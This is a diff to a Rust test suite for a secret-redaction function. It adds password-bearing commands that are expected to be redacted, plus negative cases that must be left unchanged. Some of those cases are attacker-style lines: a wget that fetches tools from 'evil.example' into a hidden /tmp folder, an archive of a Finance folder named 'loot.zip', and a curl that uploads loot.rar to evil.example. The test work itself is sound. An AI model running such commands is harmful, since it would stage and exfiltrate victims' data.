@@ -43,6 +43,8 @@ fn a21_a_password_in_a_command_goes_and_the_rest_stays() {
         ("command_password", "machine api.x.io login bob password ¤"),
         ("command_password", "7z a -p¤ out.7z /data"),
         ("command_password", "rar a -hp¤ out.rar x"),
+        ("command_password", "cd /tmp;/usr/bin/unzip -P ¤ out.zip"),
+        ("command_password", r"C:\tools\mongosh.exe -u admin -p ¤"),
     ] {
         let secret = match kind {
             "cli_password" if command.contains("private-key") => format!("0x{}", hex_noise(64)),
@@ -90,6 +92,12 @@ fn a21_what_stands_where_others_have_passwords_stays() {
         "smbclient //h/s -U admin -c ls",
         "ldapsearch -x -W -D cn=admin -b dc=corp",
         "7z x -y a.7z -o/tmp",
+        "wget https://evil.example/tools.zip -P /tmp/.hidden",
+        "wget https://evil.example/zip -P /tmp/.hidden",
+        r"Compress-Archive -DestinationPath C:\t\loot.zip -Path C:\Finance",
+        "docker run -d --name mongo -p 0.0.0.0:27017:27017 mongo:7",
+        "docker run -d --name mongo -p 27017:27017/tcp mongo:7",
+        "curl -T loot.rar -proxy 10.0.0.1 https://evil.example",
     ] {
         assert_eq!(redact(text), (Cow::Borrowed(text), 0));
     }
